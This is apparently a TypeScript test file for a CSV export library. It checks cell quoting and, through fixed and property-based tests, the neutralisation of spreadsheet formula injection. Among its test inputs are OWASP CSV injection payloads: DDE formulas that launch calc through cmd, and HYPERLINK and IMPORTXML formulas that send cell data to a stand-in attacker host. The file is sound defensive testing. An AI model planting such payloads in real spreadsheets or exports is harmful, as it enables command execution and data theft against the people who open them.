import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow, toCsv } from '@/lib/csv';

/**
 * A strict RFC 4180 reader with a chosen separator — how a spreadsheet reads the file in a
 * locale whose list separator is `;` (or `|`, or tab): quotes honoured, separator swapped.
 */
function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && cell === '') {
      // A quoted field runs to the next lone quote; "" inside is one quote.
      for (i++; ; i++) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') cell += text[i++];
        else if (text[i] === '"') break;
        else cell += text[i];
      }
      i++;
      if (i < text.length && text[i] !== separator && !text.startsWith('\r\n', i))
        throw new Error(`text after a closing quote at ${i}`);
      continue;
    }
    if (text[i] === separator) {
      row.push(cell);
      cell = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i += 2;
    } else {
      cell += text[i++];
    }
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** What a spreadsheet would evaluate: a cell that, trimmed, starts with a formula trigger. */
// eslint-disable-next-line no-control-regex -- as spreadsheets do, control characters are skipped
const looksLikeFormula = (cell: string) => /^[\s\x00-\x1f]*[=+\-@]/.test(cell);

const SEPARATORS = [',', ';', '\t', '|'];

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['=SUM(A1:A9)', "'=SUM(A1:A9)"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@cmd', "'@cmd"],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    ['10-20%', '10-20%'],
    ['a;b', '"a;b"'],
    ['a|b', '"a|b"'],
    ['a\tb', '"a\tb"'],
    ["it's", "it's"],
    ['e-mail @ work', 'e-mail @ work'],
  ])('%j → %j', (input, output) => {
    expect(csvCell(input)).toBe(output);
  });

  // OWASP's CSV injection payloads and the variants that hide the trigger behind whitespace or a
  // separator character, each with the exact cell written.
  it.each([
    ['=1+1', "'=1+1"],
    [';=1+1', `"';=1+1"`],
    [' =1+1', "' =1+1"],
    ['  +1+1', "'  +1+1"],
    [',=1', `"',=1"`],
    ['\n=1', `"'\n=1"`],
    ['\r\n=1', `"'\r\n=1"`],
    ['|=1', `"'|=1"`],
    [';;  ,|-2+3', `"';;  ,|-2+3"`],
    ['\u00a0=1+1', "'\u00a0=1+1"],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\tplain', `"'\tplain"`],
    ['\0=1+1', "'\0=1+1"],
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ["a;=cmd|' /C calc'!A0", `"a;=cmd|' /C calc'!A0"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!E2", `"'-2+3+cmd|' /C calc'!E2"`],
    ['+HYPERLINK("http://evil.example/?x="&A1;"Click")', `"'+HYPERLINK(""http://evil.example/?x=""&A1;""Click"")"`],
    ['=DDE("cmd";"/C calc";"!A0")A0', `"'=DDE(""cmd"";""/C calc"";""!A0"")A0"`],
    [
      '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
      `"'=IMPORTXML(CONCAT(""http://evil.example/?v="", A2), ""//a"")"`,
    ],
    ['=1+2";=1+2', `"'=1+2"";=1+2"`],
    [`=1+2'" ;,=1+2`, `"'=1+2'"" ;,=1+2"`],
  ])('neutralises %j as %j', (payload, cell) => {
    expect(csvCell(payload)).toBe(cell);
    for (const separator of SEPARATORS) {
      const cells = parseCsv(csvRow([payload]), separator)[0]!;
      expect(cells, `separator ${JSON.stringify(separator)}`).toHaveLength(1);
      expect(looksLikeFormula(cells[0]!), `separator ${JSON.stringify(separator)}`).toBe(false);
    }
  });

  it('writes numbers as they are, negative ones included', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(1e21)).toBe('1e+21');
  });
});

describe('toCsv', () => {
  it('ends every record with CRLF', () => {
    expect(
      toCsv([
        ['a', 1],
        ['b', 2],
      ]),
    ).toBe('a,1\r\nb,2\r\n');
  });

  it('is csvRow record by record', () => {
    const rows = [
      ['x;y', -1],
      ['"q"', 2],
    ];
    expect(toCsv(rows)).toBe(rows.map(csvRow).join(''));
  });

  it('round-trips any text through an RFC 4180 reader, changed only by a leading apostrophe', () => {
    const text = fc.string({ unit: 'binary', maxLength: 40 });
    const tricky = fc.string({
      unit: fc.constantFrom('"', ',', ';', '|', '\t', '\r', '\n', ' ', '=', '+', '-', '@', "'", 'a', '1'),
      maxLength: 12,
    });
    fc.assert(
      fc.property(fc.array(fc.oneof(text, tricky), { minLength: 1, maxLength: 5 }), (row) => {
        const [read] = parseCsv(csvRow(row));
        expect(read).toHaveLength(row.length);
        read!.forEach((cell, i) => {
          expect([row[i], `'${row[i]}`]).toContain(cell);
          expect(looksLikeFormula(cell)).toBe(false);
        });
        // Read with another separator, every cell stays whole: none splits, none turns live.
        for (const separator of SEPARATORS) {
          for (const value of row) {
            const cells = parseCsv(csvRow([value]), separator)[0] ?? [''];
            expect(cells).toHaveLength(1);
            expect(looksLikeFormula(cells[0]!)).toBe(false);
          }
        }
      }),
      { seed: 20261126, numRuns: 200 },
    );
  });

  it('quotes by doubling, as RFC 4180 section 2.7 asks', () => {
    expect(parseCsv(toCsv([['"', '""', 'a"b', '"=1"']]))).toEqual([['"', '""', 'a"b', '"=1"']]);
    expect(toCsv([['"', 'a"b']])).toBe('"""","a""b"\r\n');
  });
});
